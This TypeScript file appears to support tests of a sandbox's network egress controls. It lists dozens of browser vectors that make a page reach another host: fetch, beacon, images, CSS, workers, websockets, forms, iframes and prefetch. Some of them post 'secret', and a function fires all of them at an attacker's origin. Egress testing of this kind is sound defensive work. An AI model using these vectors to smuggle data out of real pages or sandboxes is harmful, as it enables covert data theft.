// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these scripts run in the page, which fills the holes.
// Ways in which a page makes the browser ask another host for something, each for an address of its own: `to(name)`.

/** `script` is run in the artifact; `to(name)` gives the https: address that a success would reach. */
export interface Vector {
  name: string;
  script: string;
}

const element = (html: string, then = ''): string =>
  `document.body.insertAdjacentHTML('beforeend', ${html});${then}`;

export const vectors: Vector[] = [
  { name: 'fetch', script: 'fetch(to("fetch"));' },
  {
    name: 'fetch-no-cors',
    script: 'fetch(to("fetch-no-cors"), { mode: "no-cors", method: "POST", body: "secret" });',
  },
  { name: 'fetch-keepalive', script: 'fetch(to("fetch-keepalive"), { keepalive: true });' },
  { name: 'xhr', script: 'const x = new XMLHttpRequest(); x.open("GET", to("xhr")); x.send();' },
  { name: 'beacon', script: 'navigator.sendBeacon(to("beacon"), "secret");' },
  { name: 'image', script: 'new Image().src = to("image");' },
  { name: 'image-srcset', script: element('`<img srcset="${to("image-srcset")} 1x">`') },
  { name: 'picture', script: element('`<picture><source srcset="${to("picture")}"><img></picture>`') },
  { name: 'input-image', script: element('`<input type="image" src="${to("input-image")}">`') },
  {
    name: 'svg-image',
    script: element('`<svg><image href="${to("svg-image")}" width="9" height="9"></image></svg>`'),
  },
  { name: 'video', script: element('`<video src="${to("video")}" preload="auto"></video>`') },
  { name: 'video-poster', script: element('`<video poster="${to("video-poster")}"></video>`') },
  { name: 'audio', script: element('`<audio src="${to("audio")}" preload="auto"></audio>`') },
  {
    name: 'css-background',
    script: element('`<div style="height:9px;background:url(${to("css-background")})">x</div>`'),
  },
  { name: 'css-import', script: element('`<style>@import url("${to("css-import")}");</style>`') },
  {
    name: 'css-font',
    script: element(
      '`<style>@font-face{font-family:f;src:url("${to("css-font")}")}</style><p style="font-family:f">x</p>`',
    ),
  },
  { name: 'stylesheet', script: element('`<link rel="stylesheet" href="${to("stylesheet")}">`') },
  {
    name: 'script',
    script: 'const s = document.createElement("script"); s.src = to("script"); document.head.append(s);',
  },
  {
    name: 'module-script',
    script:
      'const s = document.createElement("script"); s.type = "module"; s.src = to("module-script"); document.head.append(s);',
  },
  {
    name: 'dynamic-import',
    script: 'Function("u", "return import(u)")(to("dynamic-import")).catch(() => {});',
  },
  {
    name: 'worker-fetch',
    script: 'new Worker(URL.createObjectURL(new Blob([`fetch("${to("worker-fetch")}")`])));',
  },
  {
    name: 'worker-import',
    script: 'new Worker(URL.createObjectURL(new Blob([`importScripts("${to("worker-import")}")`])));',
  },
  { name: 'websocket', script: 'new WebSocket(to("websocket").replace("https", "wss"));' },
  { name: 'eventsource', script: 'new EventSource(to("eventsource"));' },
  {
    name: 'form-get',
    script: element(
      '`<iframe name="sink-get"></iframe><form id="fg" target="sink-get" action="${to("form-get")}"></form>`',
      'document.getElementById("fg").submit();',
    ),
  },
  {
    name: 'form-post',
    script: element(
      '`<iframe name="sink-post"></iframe><form id="fp" method="post" target="sink-post" action="${to("form-post")}"><input name="a" value="secret"></form>`',
      'document.getElementById("fp").submit();',
    ),
  },
  { name: 'iframe', script: element('`<iframe src="${to("iframe")}"></iframe>`') },
  {
    name: 'iframe-srcdoc',
    script:
      'const f = document.createElement("iframe"); f.srcdoc = `<img src="${to("iframe-srcdoc")}">`; document.body.append(f);',
  },
  {
    name: 'iframe-blob',
    script:
      'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob([`<img src="${to("iframe-blob")}">`], { type: "text/html" })); document.body.append(f);',
  },
  {
    name: 'iframe-data',
    script:
      'const f = document.createElement("iframe"); f.src = "data:text/html," + encodeURIComponent(`<img src="${to("iframe-data")}">`); document.body.append(f);',
  },
  {
    name: 'iframe-refresh',
    script:
      'const f = document.createElement("iframe"); f.srcdoc = `<meta http-equiv="refresh" content="0;url=${to("iframe-refresh")}">`; document.body.append(f);',
  },
  {
    name: 'sandboxed-iframe',
    script:
      'const f = document.createElement("iframe"); f.sandbox = "allow-scripts"; f.srcdoc = `<script>fetch("${to("sandboxed-iframe")}")</` + `script>`; document.body.append(f);',
  },
  {
    name: 'clean-realm-fetch',
    script:
      'const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch(to("clean-realm-fetch"));',
  },
  { name: 'object', script: element('`<object data="${to("object")}"></object>`') },
  { name: 'embed', script: element('`<embed src="${to("embed")}">`') },
  { name: 'prefetch', script: element('`<link rel="prefetch" href="${to("prefetch")}">`') },
  { name: 'preload', script: element('`<link rel="preload" as="image" href="${to("preload")}">`') },
  { name: 'modulepreload', script: element('`<link rel="modulepreload" href="${to("modulepreload")}">`') },
  {
    name: 'speculation-prefetch',
    script:
      'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: [to("speculation-prefetch")], eagerness: "immediate" }] }); document.head.append(s);',
  },
  { name: 'manifest', script: element('`<link rel="manifest" href="${to("manifest")}">`') },
  {
    name: 'ping',
    script: element(
      '`<a id="pa" href="#x" ping="${to("ping")}">x</a>`',
      'document.getElementById("pa").click();',
    ),
  },
  { name: 'track', script: element('`<video><track default kind="captions" src="${to("track")}"></video>`') },
];

/** Attempts that do not get through even where everything is allowed, so that they prove nothing there, and why. */
export const idleVectors: Record<string, 'HTML' | 'React' | 'both'> = {
  manifest: 'both', // Read for the page in a tab only.
  'speculation-prefetch': 'both', // Likewise.
  track: 'both', // Loaded when the video plays.
  object: 'React', // No plug-ins in the bundler's frame, whatever EGRESS says.
  embed: 'React',
};

/** Runs all of them at once. @param evil the attacker's origin */
export function exfiltrationScript(evil: string): string {
  const attempts = vectors.map(
    ({ script }) => `try { ${script.replace(/^const (\w+)/, 'var $1')} } catch {}`,
  );
  return `const to = (name) => ${JSON.stringify(`${evil}/x/`)} + name;
${attempts.map((attempt) => `(() => { ${attempt} })();`).join('\n')}
await new Promise((done) => setTimeout(done, 1500));
return 'tried';`;
}
